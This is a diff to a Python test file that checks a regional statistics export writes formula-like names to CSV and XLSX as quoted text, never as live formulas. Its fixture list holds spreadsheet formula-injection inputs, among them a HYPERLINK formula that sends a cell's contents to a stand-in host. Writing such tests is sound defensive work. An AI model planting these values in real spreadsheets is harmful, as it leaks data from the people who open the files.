@@ -23,7 +23,7 @@ HOSTILE = ['=HYPERLINK("http://example.invalid/?"&A1,"点击")', "+1+2", "-阳�
 def _summary(names: list[str]) -> dict[str, Any]:
     values = {str(n): (-3 if n == 1 else n) for n, *_ in COLUMNS}
     values["15"] = {"count": 1, "names": ["=1+1"]}
-    return {"region_name": "河北省", "period": "2026Q3",
+    return {"region": "130000", "region_name": "河北省", "period": "2026Q3",
             "rows": [{"name": name, "region": "", "values": values} for name in names],
             "total": {"values": values}}
 
@@ -31,11 +31,12 @@ def _summary(names: list[str]) -> dict[str, Any]:
 def test_exports_write_formula_like_text_as_text() -> None:
     summary = _summary([*HOSTILE, "石家庄市"])
     rows = list(csv.reader(io.StringIO(to_csv(summary).lstrip("\ufeff"))))[4:]
+    rows = rows[:[r[:1] for r in rows].index(["合计"]) + 1]  # the table; the sign-off follows
     assert [r[0] for r in rows] == [*(f"'{h}" for h in HOSTILE), "石家庄市", "合计"]
     assert rows[0][1] == "-3" and rows[0][15] == "1（=1+1）"  # numbers stay numbers
 
     sheet = load_workbook(io.BytesIO(to_xlsx(summary))).active
-    cells = [row[0] for row in sheet.iter_rows(min_row=5)]
+    cells = [row[0] for row in sheet.iter_rows(min_row=5, max_row=5 + len(HOSTILE))]
     for cell, name in zip(cells, [*HOSTILE, "石家庄市"], strict=False):
         assert (cell.value, cell.data_type) == (name, "s")  # as written, and never a formula
         assert cell.quotePrefix == starts_hostile(name)
